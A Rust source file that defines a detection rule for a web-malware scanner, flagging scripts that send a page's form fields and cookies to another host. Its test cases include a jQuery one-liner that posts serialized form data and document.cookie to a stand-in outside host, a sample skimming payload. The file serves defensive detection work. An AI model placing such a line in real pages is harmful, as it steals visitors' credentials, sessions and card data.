//! `fields-and-cookies-sent`.

use crate::facts::Atom;
use crate::signals::{Signal, one};
use crate::{ClassSet, Severity};

pub(super) const SIGNAL: Signal = Signal {
    id: "fields-and-cookies-sent",
    description: "The script sends form fields and all cookies of this page to another host.",
    severity: Severity::High,
    classes: ClassSet::MALWARE,
    needs: &[
        one(&[Atom::FieldsAndCookiesAbroad]),
        one(&[Atom::FormContents, Atom::SecretField, Atom::FieldQuery, Atom::CardField]),
    ],
    within: 150,
    only_if: None,
    #[cfg(test)]
    cases: crate::signals::Cases {
        with: &[
            "$.ajax({url:'https://c.example/i.php',method:'POST',data:{f:$('form').serialize(),c:document.cookie}})",
        ],
        without: &[
            "$.ajax({url:'/i.php',method:'POST',data:{f:$('form').serialize(),c:document.cookie}})",
            "fetch('https://c.example/i',{method:'POST',body:JSON.stringify({mail:m.value,id:(document.cookie.match(/id=(\\d+)/)||[])[1]})})",
        ],
    },
};
